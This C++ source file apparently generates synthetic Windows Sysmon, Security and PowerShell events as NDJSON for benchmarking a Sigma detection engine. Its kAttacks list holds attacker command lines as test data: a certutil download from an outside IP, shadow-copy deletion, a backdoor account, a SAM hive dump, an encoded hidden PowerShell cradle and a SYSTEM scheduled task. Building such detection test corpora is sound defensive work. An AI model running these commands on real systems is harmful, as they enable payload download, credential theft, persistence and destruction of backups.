// Generates Windows events (the EVTX JSON shape: Event.System / Event.EventData) as NDJSON for
// bench/sigma_bench.sh and the benign-corpus test:
//
//   vigil_bench_sigma_data OUT EVENTS [--benign] [--seed N]
//
// The mix follows a busy office workstation: Sysmon process creation (35%), network (15%),
// file creation (15%), registry (10%) and image loads (5%); Security logons and process
// creation (15%); PowerShell script blocks (5%). Processes, paths and command lines are those of
// ordinary office software (browsers, Office, Zalo, UniKey, Windows services). Without
// --benign, one event in 1,000 is an attacker's command (whoami /all, certutil downloads,
// shadow-copy deletion, ...) so that detections are produced and written.
#include <array>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <string_view>

namespace {

uint64_t state = 0x9E3779B97F4A7C15ull;
uint64_t Next() {
  state ^= state << 13;
  state ^= state >> 7;
  state ^= state << 17;
  return state;
}
template <typename T, size_t N>
const T& Pick(const std::array<T, N>& items) {
  return items[Next() % N];
}

std::string Json(std::string_view s) {
  std::string out;
  for (char c : s) {
    if (c == '"' || c == '\\') out += '\\';
    out += c;
  }
  return out;
}

struct Program {
  const char* image;
  const char* command;
  int parent;  // index into kParents
};

struct Parent {
  const char* image;
  const char* command;
  const char* user;
};

constexpr std::array<Parent, 4> kParents = {{
    {R"(C:\Windows\explorer.exe)", R"(C:\Windows\Explorer.EXE)", "UBND\\canbo"},
    {R"(C:\Windows\System32\services.exe)", R"(C:\Windows\system32\services.exe)",
     "NT AUTHORITY\\SYSTEM"},
    {R"(C:\Windows\System32\svchost.exe)", R"(C:\Windows\system32\svchost.exe -k DcomLaunch -p)",
     "NT AUTHORITY\\SYSTEM"},
    {R"(C:\Windows\System32\userinit.exe)", R"(C:\Windows\system32\userinit.exe)", "UBND\\canbo"},
}};

// Ordinary software with the parent that really starts it.
constexpr std::array<Program, 16> kPrograms = {{
    {R"(C:\Program Files\Google\Chrome\Application\chrome.exe)",
     R"("C:\Program Files\Google\Chrome\Application\chrome.exe" --restore-last-session)", 0},
    {R"(C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe)",
     R"("C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default)",
     0},
    {R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)",
     R"("C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "D:\VanBan\CongVan_2026_so_123.docx")",
     0},
    {R"(C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE)",
     R"("C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "D:\BaoCao\ThongKe_Thang11.xlsx")",
     0},
    {R"(C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE)",
     R"("C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE")", 0},
    {R"(C:\Users\canbo\AppData\Local\Programs\Zalo\Zalo.exe)",
     R"("C:\Users\canbo\AppData\Local\Programs\Zalo\Zalo.exe")", 0},
    {R"(C:\Program Files\UniKey\UniKeyNT.exe)", R"("C:\Program Files\UniKey\UniKeyNT.exe")", 0},
    {R"(C:\Windows\System32\notepad.exe)",
     R"("C:\Windows\system32\NOTEPAD.EXE" D:\GhiChu\lich_truc.txt)", 0},
    {R"(C:\Program Files\Foxit Software\Foxit PDF Reader\FoxitPDFReader.exe)",
     R"("C:\Program Files\Foxit Software\Foxit PDF Reader\FoxitPDFReader.exe" "D:\VanBan\QuyetDinh.pdf")",
     0},
    {R"(C:\Windows\System32\svchost.exe)",
     R"(C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule)", 1},
    {R"(C:\Windows\System32\svchost.exe)",
     R"(C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog)", 1},
    {R"(C:\Windows\System32\RuntimeBroker.exe)",
     R"(C:\Windows\System32\RuntimeBroker.exe -Embedding)", 2},
    {R"(C:\Windows\System32\SearchProtocolHost.exe)",
     R"("C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe5_ Global\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646 "Software\Microsoft\Windows Search")",
     1},
    {R"(C:\Windows\System32\backgroundTaskHost.exe)",
     R"("C:\Windows\system32\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider)",
     2},
    {R"(C:\Windows\explorer.exe)", R"(C:\Windows\Explorer.EXE)", 3},
    {R"(C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe)",
     R"("C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe")", 1},
}};

// Programs that talk to the Internet in the network events.
constexpr std::array<int, 4> kNetworkPrograms = {0, 1, 5, 9};

constexpr std::array<Program, 10> kAttacks = {{
    {R"(C:\Windows\System32\whoami.exe)", R"(whoami /all)", 0},
    {R"(C:\Windows\System32\certutil.exe)",
     R"(certutil.exe -urlcache -split -f http://103.45.67.89/a.exe C:\Users\Public\a.exe)", 0},
    {R"(C:\Windows\System32\vssadmin.exe)", R"(vssadmin.exe delete shadows /all /quiet)", 0},
    {R"(C:\Windows\System32\net.exe)", R"(net user support P@ssw0rd! /add)", 0},
    {R"(C:\Windows\System32\reg.exe)", R"(reg save HKLM\SAM C:\Users\Public\sam.save)", 0},
    {R"(C:\Windows\System32\rundll32.exe)", R"(rundll32.exe \\10.10.5.20\share\payload.dll,Start)",
     0},
    {R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
     R"(powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA)",
     0},
    {R"(C:\Windows\System32\schtasks.exe)",
     R"(schtasks /create /sc minute /mo 5 /tn Updater /tr C:\Users\Public\a.exe /ru SYSTEM)", 0},
    {R"(C:\Windows\System32\wbem\WMIC.exe)", R"(wmic shadowcopy delete)", 0},
    {R"(C:\Windows\System32\bcdedit.exe)", R"(bcdedit /set {default} recoveryenabled No)", 0},
}};

constexpr std::array<const char*, 6> kHosts = {"ubnd-ketoan-01", "ubnd-vanthu-02", "stttt-pc07",
                                               "sonv-hanhchinh", "xa-anbinh-pc1",  "ubnd-lanhdao"};

std::string System(int event_id, const char* channel, const char* provider, uint64_t record,
                   uint64_t t) {
  char time[64];
  std::snprintf(
      time, sizeof time, "2026-11-%02llu T%02llu:%02llu:%02llu.%06lluZ",
      static_cast<unsigned long long>(1 + t / 86400 % 28),
      static_cast<unsigned long long>(t / 3600 % 24), static_cast<unsigned long long>(t / 60 % 60),
      static_cast<unsigned long long>(t % 60), static_cast<unsigned long long>(Next() % 1000000));
  std::string stamp(time);
  stamp.erase(stamp.find(' '), 1);
  return R"("System":{"Provider":{"#attributes":{"Name":")" + std::string(provider) +
         R"("}},"EventID":)" + std::to_string(event_id) +
         R"(,"Level":4,"TimeCreated":{"#attributes":{"SystemTime":")" + stamp +
         R"("}},"EventRecordID":)" + std::to_string(record) + R"(,"Channel":")" + channel +
         R"(","Computer":")" + Pick(kHosts) + R"(.ubnd.local"})";
}

constexpr const char* kSysmon = "Microsoft-Windows-Sysmon/Operational";

std::string Guid() {
  char buf[40];
  std::snprintf(buf, sizeof buf, "{%08llX-%04llX-%04llX-0000-%012llX}",
                static_cast<unsigned long long>(Next() & 0xffffffff),
                static_cast<unsigned long long>(Next() & 0xffff),
                static_cast<unsigned long long>(Next() & 0xffff),
                static_cast<unsigned long long>(Next() & 0xffffffffffff));
  return buf;
}

std::string Event(uint64_t record, bool benign) {
  const uint64_t t = 1'000'000 + record * 3;
  const uint64_t kind = Next() % 100;
  const Program& app = Pick(kPrograms);  // the acting process of non-process events
  std::string data;
  std::string system;
  if (kind < 35) {
    const bool attack = !benign && Next() % 1000 == 0;
    const Program& p = attack ? Pick(kAttacks) : Pick(kPrograms);
    const Parent& parent = kParents[static_cast<size_t>(p.parent)];
    system = System(1, kSysmon, "Microsoft-Windows-Sysmon", record, t);
    data = R"("RuleName":"-","UtcTime":"2026-11-21 08:00:00.000","ProcessGuid":")" + Guid() +
           R"(","ProcessId":)" + std::to_string(Next() % 20000) + R"(,"Image":")" + Json(p.image) +
           R"(","FileVersion":"10.0.19041.1","Description":"","Product":"",
"Company":"","OriginalFileName":"","CommandLine":")" +
           Json(p.command) + R"(","CurrentDirectory":"C:\\Windows\\system32\\","User":")" +
           Json(parent.user) + R"(","LogonGuid":")" + Guid() +
           R"(","LogonId":"0x3e7","TerminalSessionId":1,
"IntegrityLevel":"Medium","Hashes":"SHA256=)" +
           std::to_string(Next()) + R"(","ParentProcessGuid":")" + Guid() +
           R"(","ParentProcessId":)" + std::to_string(Next() % 20000) + R"(,"ParentImage":")" +
           Json(parent.image) + R"(","ParentCommandLine":")" + Json(parent.command) +
           R"(","ParentUser":")" + Json(parent.user) + "\"";
  } else if (kind < 50) {
    system = System(3, kSysmon, "Microsoft-Windows-Sysmon", record, t);
    data = R"("RuleName":"-","UtcTime":"2026-11-21 08:00:00.000","ProcessGuid":")" + Guid() +
           R"(","ProcessId":4412,"Image":")" +
           Json(kPrograms[static_cast<size_t>(Pick(kNetworkPrograms))].image) +
           R"(","User":"UBND\\canbo","Protocol":"tcp","Initiated":"true","SourceIsIpv6":"false",
"SourceIp":"10.20.)" +
           std::to_string(Next() % 255) + "." + std::to_string(Next() % 255) +
           R"(","SourceHostname":"-","SourcePort":)" + std::to_string(49152 + Next() % 16000) +
           R"(,"DestinationIsIpv6":"false","DestinationIp":"142.250.)" +
           std::to_string(Next() % 255) + "." + std::to_string(Next() % 255) +
           R"(","DestinationHostname":"-","DestinationPort":443,"DestinationPortName":"https")";
  } else if (kind < 65) {
    system = System(11, kSysmon, "Microsoft-Windows-Sysmon", record, t);
    data = R"("RuleName":"-","UtcTime":"2026-11-21 08:00:00.000","ProcessGuid":")" + Guid() +
           R"(","ProcessId":4412,"Image":")" + Json(app.image) +
           R"(","TargetFilename":"C:\\Users\\canbo\\AppData\\Local\\Temp\\~DF)" +
           std::to_string(Next() % 100000) +
           R"(.TMP","CreationUtcTime":"2026-11-21 08:00:00.000","User":"UBND\\canbo")";
  } else if (kind < 75) {
    system = System(13, kSysmon, "Microsoft-Windows-Sysmon", record, t);
    data =
        R"("RuleName":"-","EventType":"SetValue","UtcTime":"2026-11-21 08:00:00.000","ProcessGuid":")" +
        Guid() + R"(","ProcessId":4412,"Image":")" + Json(app.image) +
        R"(","TargetObject":"HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Word\\Options\\LastUsed)" +
        std::to_string(Next() % 100) + R"x(","Details":"DWORD (0x00000001)","User":"UBND\\canbo")x";
  } else if (kind < 80) {
    system = System(7, kSysmon, "Microsoft-Windows-Sysmon", record, t);
    data = R"("RuleName":"-","UtcTime":"2026-11-21 08:00:00.000","ProcessGuid":")" + Guid() +
           R"(","ProcessId":4412,"Image":")" + Json(app.image) +
           R"(","ImageLoaded":"C:\\Windows\\System32\\kernelbase.dll","FileVersion":"10.0.19041.1",
"Description":"Windows NT BASE API Client DLL","Product":"Microsoft Windows Operating System",
"Company":"Microsoft Corporation","OriginalFileName":"Kernelbase.dll","Hashes":"SHA256=)" +
           std::to_string(Next()) + R"(","Signed":"true","Signature":"Microsoft Windows",
"SignatureStatus":"Valid","User":"UBND\\canbo")";
  } else if (kind < 90) {
    system = System(4624, "Security", "Microsoft-Windows-Security-Auditing", record, t);
    data =
        R"("SubjectUserSid":"S-1-5-18","SubjectUserName":"UBND-KETOAN-01$","SubjectDomainName":"UBND",
"SubjectLogonId":"0x3e7","TargetUserSid":"S-1-5-21-1-2-3-1001","TargetUserName":"canbo",
"TargetDomainName":"UBND","TargetLogonId":"0x1a2b3c","LogonType":2,"LogonProcessName":"User32 ",
"AuthenticationPackageName":"Negotiate","WorkstationName":"UBND-KETOAN-01","LogonGuid":")" +
        Guid() + R"(","TransmittedServices":"-","LmPackageName":"-","KeyLength":0,
"ProcessId":"0x2c8","ProcessName":"C:\\Windows\\System32\\svchost.exe","IpAddress":"127.0.0.1",
"IpPort":"0","ImpersonationLevel":"%%1833","ElevatedToken":"%%1842")";
  } else if (kind < 95) {
    system = System(4688, "Security", "Microsoft-Windows-Security-Auditing", record, t);
    const Program& p = Pick(kPrograms);
    const Parent& parent = kParents[static_cast<size_t>(p.parent)];
    data =
        R"("SubjectUserSid":"S-1-5-18","SubjectUserName":"UBND-KETOAN-01$","SubjectDomainName":"UBND",
"SubjectLogonId":"0x3e7","NewProcessId":"0x1a2c","NewProcessName":")" +
        Json(p.image) + R"(","TokenElevationType":"%%1936","ProcessId":"0x3f0","CommandLine":")" +
        Json(p.command) + R"(","TargetUserSid":"S-1-0-0","ParentProcessName":")" +
        Json(parent.image) + R"(","MandatoryLabel":"S-1-16-8192")";
  } else {
    system = System(4104, "Microsoft-Windows-PowerShell/Operational",
                    "Microsoft-Windows-PowerShell", record, t);
    data =
        R"("MessageNumber":1,"MessageTotal":1,"ScriptBlockText":"Get-ChildItem -Path 'D:\\BaoCao' -Filter *.xlsx | Sort-Object LastWriteTime | Select-Object -First 10","ScriptBlockId":")" +
        Guid() + R"(","Path":"")";
  }
  std::string line = R"({"Event":{)" + system + R"(,"EventData":{)" + data + "}}}";
  std::string out;
  for (char c : line) {
    if (c != '\n') out += c;
  }
  return out;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 3) {
    std::fprintf(stderr, "usage: %s OUT EVENTS [--benign] [--seed N]\n", argv[0]);
    return 2;
  }
  bool benign = false;
  for (int i = 3; i < argc; ++i) {
    if (std::strcmp(argv[i], "--benign") == 0) benign = true;
    if (std::strcmp(argv[i], "--seed") == 0 && i + 1 < argc)
      state ^= std::strtoull(argv[++i], nullptr, 10) * 0x100000001b3ull;
  }
  FILE* out = std::fopen(argv[1], "w");
  if (out == nullptr) {
    std::perror(argv[1]);
    return 1;
  }
  const uint64_t events = std::strtoull(argv[2], nullptr, 10);
  for (uint64_t i = 1; i <= events; ++i) {
    std::string e = Event(i, benign);
    e += '\n';
    std::fwrite(e.data(), 1, e.size(), out);
  }
  return std::fclose(out) == 0 ? 0 : 1;
}
